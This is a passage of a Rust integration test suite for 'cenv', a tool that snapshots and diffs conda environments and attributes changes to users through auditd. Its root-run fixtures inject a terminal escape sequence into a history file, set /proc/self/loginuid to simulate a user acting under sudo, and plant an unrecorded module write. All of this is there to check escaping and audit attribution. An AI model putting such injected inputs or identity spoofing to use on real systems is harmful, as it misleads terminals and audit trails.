    assert!(third.contains("lab: removed "), "{third}");
    let kept = snapshot_files(&snaps.join("lab"));
    assert_eq!(kept.len(), 2, "--keep 1 leaves one version: {kept:?}");
    assert_ne!(kept, written);

    let diff = cenv_as(&sb, ALICE)
        .args(["diff", "lab"])
        .arg(&before)
        .output()
        .unwrap();
    assert_eq!(diff.status.code(), Some(1), "{}", stderr(&diff));
    assert_eq!(stdout(&diff), "+ numpy 1.26.4 py311_0  (not in the snapshot)\n");
    let json = cenv_as(&sb, ALICE)
        .args(["diff", "--json", "lab"])
        .arg(&before)
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["added"][0]["name"], "numpy");
    assert_eq!(json["removed"], serde_json::json!([]));

    let changes = cenv_as(&sb, ALICE).args(["changes", "lab"]).output().unwrap();
    let text = stdout(&changes);
    assert!(changes.status.success(), "{}", stderr(&changes));
    assert!(
        text.contains(
            "lab  rev 0  2026-01-05 09:00:00  conda create -p lab python\n    + python 3.11.2 debian_0\n"
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "lab  rev 1  2026-02-10 14:30:00  conda install -n lab numpy\n    + numpy 1.26.4 py311_0\n"
        ),
        "{text}"
    );
    assert!(text.contains("ausearch -k cenv_env_write"), "{text}");
    let since = cenv_as(&sb, ALICE)
        .args(["changes", "lab", "--since", "2026-02-01", "--json"])
        .output()
        .unwrap();
    let since: serde_json::Value = serde_json::from_slice(&since.stdout).unwrap();
    let revisions = since["envs"][0]["revisions"].as_array().unwrap();
    assert_eq!(revisions.len(), 1);
    assert_eq!(revisions[0]["command"], "conda install -n lab numpy");

    // garbage in the history: the file and the line, exit 125, no crash
    let mut history = fs::read_to_string(prefix.join("conda-meta/history")).unwrap();
    history.push_str("\u{1b}]0;owned\u{7} not a history line\n");
    fs::write(prefix.join("conda-meta/history"), history).unwrap();
    let bad = cenv_as(&sb, ALICE).args(["changes", "lab"]).output().unwrap();
    assert_eq!(bad.status.code(), Some(125));
    let err = stderr(&bad);
    assert!(
        err.contains(prefix.join("conda-meta/history").to_str().unwrap()) && err.contains("line 10"),
        "{err}"
    );
    assert!(!err.contains('\u{1b}'), "escaped: {err}");
    // a corrupted record: snapshot says which env and file, does the others, exits 1
    fs::write(prefix.join("conda-meta/numpy-1.26.4-py311_0.json"), "{\"name\": ").unwrap();
    let out = cenv_as(&sb, ALICE)
        .args(["snapshot", "--all", "--dir"])
        .arg(&snaps)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("lab: FAILED: ") && stdout(&out).contains("numpy-1.26.4-py311_0.json"),
        "{}",
        stdout(&out)
    );
    assert!(fs::read_to_string(snaps.join("MANIFEST"))
        .unwrap()
        .contains("lab\tfailed\t"));
    assert_eq!(
        snapshot_files(&snaps.join("lab")),
        kept,
        "a failed export leaves the versions alone"
    );
}

/// A real auditd for one test: the one already running, else one started
/// here (`auditd -n`) and stopped by pid. Removes the watches the test added,
/// puts the kernel's audit "enabled" flag back and, when the audit log did
/// not exist before, removes the log it made.
struct AuditDaemon {
    started: Option<Child>,
    watches: Vec<Vec<String>>,
    log_existed: bool,
    enabled_before: String,
}

/// A value `auditctl -s` prints ("enabled", "pid").
fn audit_status(field: &str) -> String {
    let status = stdout(&Command::new("auditctl").arg("-s").output().unwrap());
    status
        .lines()
        .find_map(|l| l.strip_prefix(field)?.strip_prefix(' ').map(str::to_owned))
        .unwrap_or_default()
}

const AUDIT_LOG: &str = "/var/log/audit/audit.log";

impl AuditDaemon {
    fn start() -> Option<AuditDaemon> {
        if !Path::new("/usr/sbin/auditd").exists() {
            skip("auditd is not installed (tests/run-all.sh installs it)");
            return None;
        }
        let log_existed = Path::new(AUDIT_LOG).exists();
        let enabled_before = audit_status("enabled");
        let running = Command::new("pgrep").args(["-x", "auditd"]).output().unwrap();
        let started = if running.status.success() {
            None
        } else {
            let child = Command::new("/usr/sbin/auditd")
                .arg("-n")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .spawn()
                .unwrap();
            Some(child)
        };
        let daemon = AuditDaemon {
            started,
            watches: Vec::new(),
            log_existed,
            enabled_before,
        };
        for _ in 0..100 {
            if !matches!(audit_status("pid").as_str(), "" | "0") {
                return Some(daemon);
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        panic!("auditd did not register with the kernel");
    }

    /// Applies an auditctl rule line (`-w PATH -p wa -k KEY`).
    fn watch(&mut self, rule: &str) {
        let args: Vec<String> = rule.split_whitespace().map(str::to_owned).collect();
        let out = Command::new("auditctl").args(&args).output().unwrap();
        assert!(out.status.success(), "auditctl {rule}: {}", stderr(&out));
        self.watches.push(args);
    }
}

impl Drop for AuditDaemon {
    fn drop(&mut self) {
        for args in &self.watches {
            let removal: Vec<&str> = args
                .iter()
                .map(|a| if a == "-w" { "-W" } else { a.as_str() })
                .collect();
            let _ = Command::new("auditctl").args(&removal).output();
        }
        if let Some(child) = &mut self.started {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(child.id() as i32),
                nix::sys::signal::Signal::SIGTERM,
            );
            let _ = child.wait();
            if !self.enabled_before.is_empty() {
                let _ = Command::new("auditctl")
                    .args(["-e", &self.enabled_before])
                    .output();
            }
            if !self.log_existed {
                for entry in fs::read_dir("/var/log/audit").into_iter().flatten().flatten() {
                    if entry.file_name().to_string_lossy().starts_with("audit.log") {
                        let _ = fs::remove_file(entry.path());
                    }
                }
            }
        }
    }
}

#[test]
fn changes_run_by_root_names_who_wrote_each_revision_from_auditd() {
    require_root!();
    let _lock = machine_lock();
    let Some(mut auditd) = AuditDaemon::start() else {
        return;
    };
    let sb = shared(&["lab", "other"], "");
    let lab = sb.path("envs/lab");
    // the watch exactly as `cenv audit-rules` prints it for this envs root
    let rules = stdout(&sb.cenv().arg("audit-rules").output().unwrap());
    let rule = rules
        .lines()
        .find(|l| l.starts_with(&format!("-w {} ", sb.path("envs").display())))
        .unwrap_or_else(|| panic!("no watch of the envs root: {rules}"));

    let now = |format: &str| {
        String::from_utf8(Command::new("date").arg(format).output().unwrap().stdout)
            .unwrap()
            .trim()
            .to_owned()
    };
    // alice logged in, then became the env admin (sudo -u conda-user):
    // the login uid stays hers, which is what the join shows
    let alice = user(ALICE);
    let as_admin_logged_in_as_alice = |script: &str| {
        let out = Command::new("sh")
            .arg("-c")
            .arg(format!(
                "echo {} > /proc/self/loginuid && exec setpriv --reuid {ADMIN} --regid {ADMIN} --init-groups -- sh -c \"$0\"",
                alice.uid
            ))
            .arg(script)
            .output()
            .unwrap();
        assert!(out.status.success(), "{script}: {}", stderr(&out));
    };
    // lab: an old revision, then a conda-style change now, history written last
    fs::write(
        lab.join("conda-meta/history"),
        "==> 2020-01-05 09:00:00 <==\n# cmd: conda create -n lab python\n+file:///channel::python-3.11.2-debian_0\n",
    )
    .unwrap();
    chown_tree(&lab, user(ADMIN).uid, group_gid(RESEARCH));
    // watched from here: the writes above were root's, setting the scene
    auditd.watch(rule);
    as_admin_logged_in_as_alice(&format!(
        "echo 'VALUE = 2' > {lab}/lib/six.py && printf '==> {date} <==\\n# cmd: conda install -n lab six\\n+file:///channel::six-1.16.0-py_0\\n' >> {lab}/conda-meta/history",
        lab = lab.display(),
        date = now("+%Y-%m-%d %H:%M:%S"),
    ));
    // other: a pip-style write no conda revision records
    as_admin_logged_in_as_alice(&format!(
        "echo 'planted = 1' > {}/lib/pip_installed.py",
        sb.path("envs/other").display()
    ));
    // alice herself tries to write into other/ and is denied: auditd logs
    // the attempt (success=no), which is no write
    let denied = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo {} > /proc/self/loginuid && exec setpriv --reuid {ALICE} --regid {ALICE} --init-groups -- /usr/bin/touch {}/lib/denied.py",
            alice.uid,
            sb.path("envs/other").display()
        ))
        .output()
        .unwrap();
    assert!(!denied.status.success(), "alice could write into the env");
    // auditd writes its log asynchronously
    let attempt_logged = (0..100).any(|_| {
        let search = Command::new("ausearch")
            .args([
                "--input-logs",
                "-k",
                "cenv_env_write",
                "--success",
                "no",
                "-x",
                "/usr/bin/touch",
            ])
            .output()
            .unwrap();
        search.status.success() || {
            std::thread::sleep(std::time::Duration::from_millis(100));
            false
        }
    });
    assert!(
        attempt_logged,
        "auditd never logged the denied attempt: the check below would prove nothing"
    );
    let recorded = (0..100).any(|_| {
        let search = Command::new("ausearch")
            .args(["--input-logs", "-k", "cenv_env_write", "-f"])
            .arg(sb.path("envs/other/lib/pip_installed.py"))
            .output()
            .unwrap();
        search.status.success() || {
            std::thread::sleep(std::time::Duration::from_millis(100));
            false
        }
    });
    assert!(recorded, "auditd never logged the write");

    // root's own `cenv changes` reads the system config (never --config)
    let Some(config) = write_system_config(&format!("envs_dirs = [\"{}\"]\n", sb.path("envs").display()))
    else {
        return;
    };
    let as_root = |args: &[&str]| {
        let out = Command::new(cenv_binary())
            .args(args)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        out
    };
    let out = as_root(&["changes", "lab", "other"]);
    let json = as_root(&["changes", "--json", "lab"]);
    // a researcher with a sudo rule for cenv reads no one's audit records:
    // through sudo, cenv acts as her
    let through_sudo = {
        let _rule = SudoRule::allow(ALICE, "changes");
        sudo_cenv(ALICE)
            .args(["changes", "lab", "other"])
            .output()
            .unwrap()
    };
    drop(config);
    let sudo_text = stdout(&through_sudo);
    assert!(through_sudo.status.success(), "{}", stderr(&through_sudo));
    assert!(
        !sudo_text.contains("who (auditd") && !sudo_text.contains(ADMIN),
        "{sudo_text}"
    );
    assert!(
        sudo_text.contains("(not joined here: only root reads auditd's log)"),
        "{sudo_text}"
    );
    let text = stdout(&out);
    assert!(
        text.contains(
            "lab  rev 0  2020-01-05 09:00:00  conda create -n lab python\n    + python 3.11.2 debian_0\n    \
             who (auditd, by time): no write under the env recorded near this date\n"
        ),
        "{text}"
    );
    let admin_line = format!("      {ADMIN} (login {ALICE}) with /usr/bin/dash: ");
    let rev1 = text
        .split("lab  rev 1  ")
        .nth(1)
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        rev1.get(19..)
            .is_some_and(|r| r.starts_with("  conda install -n lab six\n"))
            && rev1.contains(&format!(
                "    + six 1.16.0 py_0\n    who (auditd, by time, best effort):\n{admin_line}2 writes, "
            )),
        "the module and the history line, by alice as the admin: {text}"
    );
    let other = text
        .split("other: no revisions recorded")
        .nth(1)
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        other.contains(&format!(
            "other  writes near no conda revision (pip? by hand?), from auditd:\n{admin_line}1 write, "
        )),
        "{text}"
    );
    assert!(
        text.contains("best effort") && text.contains("ausearch -k cenv_env_write"),
        "{text}"
    );
    assert!(
        !text.contains("/usr/bin/touch"),
        "a denied attempt counted as a write: {text}"
    );

    let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["auditd"], "joined");
    let writers = &json["envs"][0]["revisions"][1]["writers"];
    assert_eq!(writers[0]["user"], ADMIN, "{json:#}");
    assert_eq!(writers[0]["login"], ALICE);
    assert_eq!(writers[0]["writes"], 2);
    assert_eq!(json["envs"][0]["revisions"][0]["writers"], serde_json::json!([]));

    // anyone but root: no join, and why
    let out = cenv_as(&sb, ALICE).args(["changes", "lab"]).output().unwrap();
    let text = stdout(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!text.contains("who (auditd"), "{text}");
    assert!(
        text.contains("(not joined here: only root reads auditd's log)"),
        "{text}"
    );
}
